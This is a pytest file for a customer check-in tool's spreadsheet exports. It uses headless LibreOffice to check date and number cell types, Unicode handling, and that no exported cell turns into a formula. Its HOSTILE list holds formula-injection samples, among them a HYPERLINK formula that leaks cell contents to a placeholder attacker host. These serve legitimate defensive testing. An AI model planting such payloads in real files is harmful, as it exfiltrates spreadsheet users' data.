"""Exports opened in a real spreadsheet program: LibreOffice Calc, headless.

Each file is converted by ``soffice --convert-to fods`` (flat OpenDocument XML,
which records every cell's type, value, formula and style) and read back: time
columns must be date cells, temperatures numbers, no cell a formula whatever
the text starts with, and non-ASCII text intact. The ``--excel`` CSV is opened
as a user opening it would: with "Detect special numbers" (how Calc's import
dialog offers it, and how Excel reads dates in CSV) and "Evaluate formulas" on.

LibreOffice comes from the distribution (``apt-get install libreoffice-calc``,
done by ``.ci/run``); elsewhere these tests skip, saying so, and fail in CI.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
import time_machine
from helpers import missing

from tempcheck.store.checkins import add_checkin
from tempcheck.store.customers import add_customer
from tempcheck.store.issues import open_issue
from tempcheck.store.promises import add_promise

ZONE = "Europe/Berlin"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+2",
    "@SUM(A1)",
    "-2+3",
    "Zoë Ünïcode 東京 Корпорация",
]
NOTE = "Ünïcode — “quotes”, commas, and\na second line; =1+1 inside"

OD_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
OD_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
OD_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
OD_STYLE = "urn:oasis:names:tc:opendocument:xmlns:style:1.0"
OD_FO = "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"


@pytest.fixture(scope="module")
def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if not found:
        missing("LibreOffice is not installed (apt-get install libreoffice-calc)")
    return found


@dataclass
class Cell:
    type: str | None  # string, float, date, time, percentage, boolean, or None (empty)
    text: str
    value: str | None  # office:value or office:date-value
    formula: str | None
    style: str | None


@dataclass
class Book:
    sheets: dict[str, list[list[Cell]]]
    backgrounds: dict[str, str]  # cell style name -> background colour

    def rows(self, sheet: str) -> list[dict[str, Cell]]:
        """A sheet's data rows as header name -> cell."""
        header, *rows = self.sheets[sheet]
        names = [cell.text for cell in header]
        return [
            {
                name: row[i] if i < len(row) else Cell(None, "", None, None, None)
                for i, name in enumerate(names)
                if name
            }
            for row in rows
        ]

    def every_cell(self):
        for rows in self.sheets.values():
            for row in rows:
                yield from row


def open_in_calc(soffice: str, path: Path, work: Path, infilter: str | None = None) -> Book:
    """Convert ``path`` with LibreOffice to flat ODS and read every cell back."""
    return open_all_in_calc(soffice, [path], work, infilter)[path]


def open_all_in_calc(
    soffice: str, paths: list[Path], work: Path, infilter: str | None = None
) -> dict[Path, Book]:
    """Several files in one run of LibreOffice (it starts in seconds, converts in less)."""
    out = work / "converted"
    profile = work / "lo-profile"
    command = [
        soffice,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
    ]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", "fods", "--outdir", str(out), *map(str, paths)]
    env = {**os.environ, "HOME": str(work)}
    done = subprocess.run(command, capture_output=True, text=True, timeout=180, env=env)
    books = {}
    for path in paths:
        converted = out / (path.stem + ".fods")
        assert converted.exists(), f"LibreOffice did not convert {path.name}: {done.stderr[-500:]}"
        books[path] = _read_fods(converted)
    return books


def _read_fods(path: Path) -> Book:
    root = ET.parse(path).getroot()
    t, o = f"{{{OD_TABLE}}}", f"{{{OD_OFFICE}}}"
    backgrounds: dict[str, str] = {}
    for style in root.iter(f"{{{OD_STYLE}}}style"):
        props = style.find(f"{{{OD_STYLE}}}table-cell-properties")
        if props is not None and props.get(f"{{{OD_FO}}}background-color"):
            backgrounds[style.get(f"{{{OD_STYLE}}}name")] = props.get(
                f"{{{OD_FO}}}background-color"
            ).lower()
    sheets: dict[str, list[list[Cell]]] = {}
    for table in root.iter(f"{t}table"):
        rows: list[list[Cell]] = []
        for row in table.iter(f"{t}table-row"):
            cells: list[Cell] = []
            for element in row:
                if element.tag not in (f"{t}table-cell", f"{t}covered-table-cell"):
                    continue
                paragraphs = element.findall(f"{{{OD_TEXT}}}p")
                text = "\n".join("".join(p.itertext()) for p in paragraphs)
                cell = Cell(
                    element.get(f"{o}value-type"),
                    text,
                    element.get(f"{o}date-value") or element.get(f"{o}value"),
                    element.get(f"{t}formula"),
                    element.get(f"{t}style-name"),
                )
                repeat = int(element.get(f"{t}number-columns-repeated", "1"))
                cells.extend([cell] * min(repeat, 64))
            while cells and cells[-1].type is None and not cells[-1].text:
                cells.pop()
            if cells:
                rows.append(cells)
        sheets[table.get(f"{t}name")] = rows
    return Book(sheets, backgrounds)


# --- the data ----------------------------------------------------------------------------------


@pytest.fixture
def hostile_db(conn, db_path: Path) -> Path:
    """Customers with formula-like and non-ASCII names, check-ins at known moments."""
    summer = datetime(2026, 5, 31, 21, 13, 34, tzinfo=UTC)  # 23:13:34 in Berlin, +02:00
    winter = datetime(2026, 1, 15, 8, 0, 0, tzinfo=UTC)  # 09:00:00 in Berlin, +01:00
    for name in HOSTILE:
        customer = add_customer(conn, name, cadence_days=14)
        add_checkin(conn, customer.id, 2, note="=1+1", at=winter, channel="call")
        with time_machine.travel(summer, tick=False):  # the follow-up was in the future then
            add_checkin(
                conn,
                customer.id,
                4,
                note=NOTE,
                at=summer,
                follow_up=date(2026, 6, 5),
                initiated_by="them",
            )
        open_issue(conn, customer.id, name, due=date(2027, 6, 10))
        add_promise(conn, customer.id, "@promise " + name, date(2027, 3, 1))
    fresh = add_customer(conn, "Fresh Ltd", cadence_days=14)
    add_checkin(conn, fresh.id, 5, note="all good", at=datetime.now(UTC) - timedelta(hours=2))
    add_customer(conn, "Never Called GmbH", cadence_days=14)
    return db_path


def tempcheck(db_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """``tempcheck --db DB ARGS`` in a child process, in the Berlin time zone."""
    env = {**os.environ, "TZ": ZONE}
    return subprocess.run(
        [sys.executable, "-m", "tempcheck", "--db", str(db_path), *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


# The import options of a person opening the file: UTF-8, comma, quote, first line 1,
# detect special numbers (dates) on, evaluate formulas on: the hostile setting.
CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


def assert_no_formula_anywhere(book: Book) -> None:
    formulas = [cell.formula for cell in book.every_cell() if cell.formula]
    assert formulas == []


# --- CSV with --excel --------------------------------------------------------------------------


def test_excel_csv_times_are_dates_in_calc(soffice, hostile_db, tmp_path) -> None:
    target = tmp_path / "checkins.csv"
    done = tempcheck(hostile_db, "export", "checkins", "--excel", "-o", str(target))
    assert done.returncode == 0, done.stderr
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b",2026-05-31 23:13:34,UTC+02:00," in raw
    assert b",2026-01-15 09:00:00,UTC+01:00," in raw

    control = tmp_path / "control.csv"  # the same import runs a formula left as it is
    control.write_bytes(b"name,temperature\r\n=1+1,4\r\n")
    books = open_all_in_calc(soffice, [target, control], tmp_path, CSV_IMPORT)
    assert books[control].rows("control")[0]["name"].formula == "of:=1+1"
    book = books[target]
    (sheet,) = book.sheets
    rows = book.rows(sheet)
    assert len(rows) == 2 * len(HOSTILE) + 1
    summer = [row for row in rows if row["at_offset"].text == "UTC+02:00"]
    assert len(summer) == len(HOSTILE)
    for row in summer:
        assert row["at"].type == "date"
        assert row["at"].value == "2026-05-31T23:13:34"
        assert row["at_offset"].type == "string"
        assert row["temperature"].type == "float" and row["temperature"].value == "4"
        assert row["follow_up"].type == "date" and row["follow_up"].value == "2026-06-05"
        assert row["note"].type == "string" and row["note"].text == NOTE
    winter = [row for row in rows if row["at"].value.startswith("2026-01")]
    assert len(winter) == len(HOSTILE)
    assert {row["at_offset"].text for row in winter} == {"UTC+01:00"}
    assert {row["at"].value for row in winter} == {"2026-01-15T09:00:00"}
    assert {row["temperature"].value for row in winter} == {"2"}
    # Formula-like text arrives as text: the leading ' keeps Calc from running it.
    names = {row["customer"].text.removeprefix("'") for row in rows}
    assert names >= set(HOSTILE)
    assert all(row["customer"].type == "string" for row in rows)
    assert {row["note"].text.removeprefix("'") for row in winter} == {"=1+1"}
    assert_no_formula_anywhere(book)


def test_excel_csv_of_every_kind_has_date_cells_and_no_formula(
    soffice, hostile_db, tmp_path
) -> None:
    expect = {  # kind -> (time column, date column)
        "dashboard": ("last_contact", None),
        "customers": ("last_contact", None),
        "issues": ("opened_at", "due"),
        "promises": ("made_at", "due"),
    }
    targets = {kind: tmp_path / f"{kind}.csv" for kind in expect}
    for kind, target in targets.items():
        done = tempcheck(hostile_db, "export", kind, "--excel", "-o", str(target))
        assert done.returncode == 0, done.stderr
    books = open_all_in_calc(soffice, list(targets.values()), tmp_path, CSV_IMPORT)
    for kind, (moment, day) in expect.items():
        book = books[targets[kind]]
        (sheet,) = book.sheets
        rows = book.rows(sheet)
        dated = [row for row in rows if row[moment].text]
        assert dated, kind
        assert all(row[moment].type == "date" for row in dated), kind
        assert all(row[f"{moment}_offset"].text.startswith("UTC+0") for row in dated), kind
        if day:
            assert all(row[day].type == "date" for row in rows), kind
        assert_no_formula_anywhere(book)


def test_plain_csv_keeps_iso_8601(hostile_db, tmp_path) -> None:
    done = tempcheck(hostile_db, "export", "checkins")
    assert done.returncode == 0, done.stderr
    assert ",2026-05-31T23:13:34+02:00,4,content," in done.stdout
    assert "at_offset" not in done.stdout


# --- the workbook ------------------------------------------------------------------------------


def test_review_workbook_in_calc(soffice, hostile_db, tmp_path) -> None:
    target = tmp_path / "review.xlsx"
    done = tempcheck(hostile_db, "export", "review", "-o", str(target))
    assert done.returncode == 0, done.stderr
    assert oct(target.stat().st_mode & 0o777) == "0o600"

    book = open_in_calc(soffice, target, tmp_path)
    assert list(book.sheets) == ["Dashboard", "Check-ins", "Issues", "Promises", "Follow-ups"]
    assert_no_formula_anywhere(book)

    checkins = book.rows("Check-ins")
    assert len(checkins) == 2 * len(HOSTILE) + 1
    # Text is exactly the text: no ' prefix is needed in a typed cell.
    assert {row["customer"].text for row in checkins} == {*HOSTILE, "Fresh Ltd"}
    assert all(row["customer"].type == "string" for row in checkins)
    summer = [row for row in checkins if row["at_offset"].text == "UTC+02:00"]
    assert len(summer) == len(HOSTILE)
    for row in summer:
        assert (row["at"].type, row["at"].value) == ("date", "2026-05-31T23:13:34")
        assert row["at"].text == "2026-05-31 23:13:34"  # the readable format
        assert (row["temperature"].type, row["temperature"].value) == ("float", "4")
        assert (row["temperature_word"].type, row["temperature_word"].text) == (
            "string",
            "content",
        )
        assert (row["follow_up"].type, row["follow_up"].value) == ("date", "2026-06-05")
        assert row["follow_up"].text == "2026-06-05"
        assert row["note"].text == NOTE
    winter = [row for row in checkins if row["at"].value.startswith("2026-01")]
    assert {row["at_offset"].text for row in winter} == {"UTC+01:00"}
    assert {(row["at"].value, row["note"].text) for row in winter} == {
        ("2026-01-15T09:00:00", "=1+1")
    }

    issues = book.rows("Issues")
    assert {row["title"].text for row in issues} == set(HOSTILE)
    assert {(row["due"].type, row["due"].value) for row in issues} == {("date", "2027-06-10")}
    assert all(row["opened_at"].type == "date" for row in issues)
    promises = book.rows("Promises")
    assert {row["text"].text for row in promises} == {"@promise " + name for name in HOSTILE}
    assert {(row["due"].type, row["due"].value) for row in promises} == {("date", "2027-03-01")}
    assert {row["customer"].text for row in book.rows("Follow-ups")} == set(HOSTILE)

    dashboard = book.rows("Dashboard")
    by_name = {row["name"].text: row for row in dashboard}
    assert set(by_name) == {*HOSTILE, "Fresh Ltd", "Never Called GmbH"}
    expected = {
        HOSTILE[0]: ("cold", "#f8d7da"),
        "Fresh Ltd": ("fresh", "#dff0d8"),
        "Never Called GmbH": ("never", "#ededed"),
    }
    for name, (state, colour) in expected.items():
        row = by_name[name]
        assert row["staleness"].text == state  # the word is kept beside the colour
        for cell in (row["name"], row["staleness"], row["cadence_days"]):
            assert book.backgrounds.get(cell.style) == colour, (name, cell)
    cold = by_name[HOSTILE[4]]
    assert (cold["cadence_days"].type, cold["cadence_days"].value) == ("float", "14")
    assert (cold["last_contact"].type, cold["last_contact"].value) == (
        "date",
        "2026-05-31T23:13:34",
    )
    assert cold["last_contact_offset"].text == "UTC+02:00"
    assert cold["last_temperature"].type == "float"


def test_workbook_sheet_settings(hostile_db, tmp_path) -> None:
    """Header frozen, a filter over every column, widths that fit the longest value."""
    target = tmp_path / "checkins.xlsx"
    done = tempcheck(hostile_db, "export", "checkins", "--format", "xlsx", "-o", str(target))
    assert done.returncode == 0, done.stderr
    assert done.stderr.startswith("Wrote 11 check-ins to ")
    with zipfile.ZipFile(target) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert 'name="Check-ins"' in book.read("xl/workbook.xml").decode()
    assert '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>' in sheet
    assert '<autoFilter ref="A1:M12"/>' in sheet  # 13 columns, person and issue among them
    widths = {
        int(col.split('min="')[1].split('"')[0]): float(col.split('width="')[1].split('"')[0])
        for col in sheet.split("<col ")[1:]
    }
    longest_name = max(len(name) for name in HOSTILE)
    assert widths[1] >= longest_name  # customer
    assert widths[2] >= 19  # at: 2026-05-31 23:13:34
    assert widths[8] <= 62  # note: capped, the text is all there
    assert "<f>" not in sheet  # no formula


def test_csv_and_workbook_options_that_contradict_exit_2(hostile_db, tmp_path) -> None:
    cases = [
        (["review"], "needs a file"),
        (["review", "-o", str(tmp_path / "r.csv")], "is a workbook"),
        (["checkins", "--format", "xlsx", "-o", str(tmp_path / "c.csv")], "ends in .csv"),
        (["checkins", "--format", "csv", "-o", str(tmp_path / "c.xlsx")], "ends in .xlsx"),
        (["ics", "--format", "xlsx"], "calendar"),
    ]
    for args, words in cases:
        done = tempcheck(hostile_db, "export", *args)
        assert done.returncode == 2, (args, done.stderr)
        assert words in done.stderr and "Traceback" not in done.stderr
    done = tempcheck(hostile_db, "export", "checkins", "--excel", "-o", str(tmp_path / "c.xlsx"))
    assert done.returncode == 1 and "--excel applies to CSV" in done.stderr
    assert not list(tmp_path.glob("*.xlsx")) and not list(tmp_path.glob("*.csv"))


def test_excel_csv_imports_back_with_its_offsets(hostile_db, tmp_path) -> None:
    """The spreadsheet form goes back in: local date-time plus offset is the same moment."""
    target = tmp_path / "checkins.csv"
    assert tempcheck(hostile_db, "export", "checkins", "--excel", "-o", str(target)).returncode == 0
    other = tmp_path / "other.db"
    done = tempcheck(other, "import", "checkins", str(target), "--create-customers")
    assert done.returncode == 0, done.stderr
    again = subprocess.run(
        [sys.executable, "-m", "tempcheck", "--db", str(other), "export", "checkins"],
        capture_output=True,
        text=True,
        env={**os.environ, "TZ": "America/New_York"},  # another zone: the same moments
    )
    assert ",2026-05-31T17:13:34-04:00,4,content," in again.stdout
    assert ",2026-01-15T03:00:00-05:00,2,uneasy," in again.stdout
